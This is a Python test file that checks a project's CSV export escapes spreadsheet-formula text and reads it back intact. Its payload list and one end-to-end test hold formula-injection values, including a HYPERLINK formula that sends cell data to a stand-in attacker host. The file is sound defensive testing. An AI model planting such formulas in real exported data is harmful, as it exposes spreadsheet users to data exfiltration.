"""Tables that other people open in a spreadsheet: no text in them is a formula, and our own reader gives it back as it was."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from frugaltwin.table_reader import plain_cell, read_rows
from frugaltwin.tables import format_rows, safe_cell, write_rows
from tests.running_service import running

EVIL = [
    '=HYPERLINK("http://evil.example/?"&A1)', "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "'=1+1", "''=1", "＝1+1",
    "reef;=1+1;", "reef\n=1+1", "-", "=", "';=1", ";;'=1",
]  # fmt: skip
PLAIN = ["red", "it's", "'quoted'", "a=b", "1-2", "", '{"a": -1}', "x; y", "liquid+solid"]


@pytest.mark.parametrize("text", EVIL)
def test_a_text_that_would_be_a_formula_is_none_and_reads_back(text: str, tmp_path: Path) -> None:
    write_rows(tmp_path / "t.csv", [{text: text, "n": -1.5, "none": None}])
    cells = [cell for row in csv.reader(io.StringIO((tmp_path / "t.csv").read_bytes().decode(), newline="")) for cell in row]
    assert cells[-2:] == ["-1.5", ""]
    for cell in (cells[0], cells[3]):
        assert not [part for part in re.split(r"[;\t\r\n]", cell) if part.strip().startswith(("=", "+", "-", "@", "＝"))], cell
    ((name, cell), *_) = read_rows(tmp_path / "t.csv").rows[1].items()
    assert (name, cell) == (text, text)


@pytest.mark.parametrize("text", PLAIN)
def test_other_texts_are_left_alone(text: str) -> None:
    assert safe_cell(text) == text
    assert plain_cell(text) == text


@given(st.text("='+-@;\t\r\n a＝", max_size=12))
def test_what_is_made_safe_reads_back(text: str) -> None:
    safe = safe_cell(text)
    assert isinstance(safe, str)
    assert plain_cell(safe) == text
    assert safe_cell(-0.5) == -0.5


def test_a_table_has_the_columns_that_were_asked_for() -> None:
    assert format_rows(["a", "b"], [{"a": 1, "c": 2}, {"b": "=x"}]) == "a,b\n1,\n,'=x\n"


def test_a_student_s_words_are_no_formula_in_the_instructor_s_sheet(fresh_url: Callable[[], str]) -> None:
    evil = '=HYPERLINK("http://evil.example","marks")'
    with running(fresh_url()) as service, service.client(service.person()[1]) as me, service.client(service.admin) as admin:
        words: dict[str, Any] = {"name": "c", "rig": "color-1", "goal": "match-color:#8fb04a", "mode": "client", "strategy": {"name": evil}}
        made = me.post("/v1/campaigns", json=words)
        assert made.status_code == 202, made.text
        order = {"rig": "color-1", "settings": {"red": 0.1, "yellow": 0.2, "blue": 0.3, "water": 3.4}, "campaign": made.json()["id"]}
        taken = me.post("/v1/experiments", json=order)
        assert me.post(f"{taken.headers['location']}/abort").status_code == 200
        sheet = admin.get(f"{made.headers['location']}/export").text
        (row,) = csv.DictReader(io.StringIO(sheet))
        assert row["strategy"] == "'" + evil
        assert not [cell for cell in row.values() if cell.startswith(("=", "+", "-", "@"))]
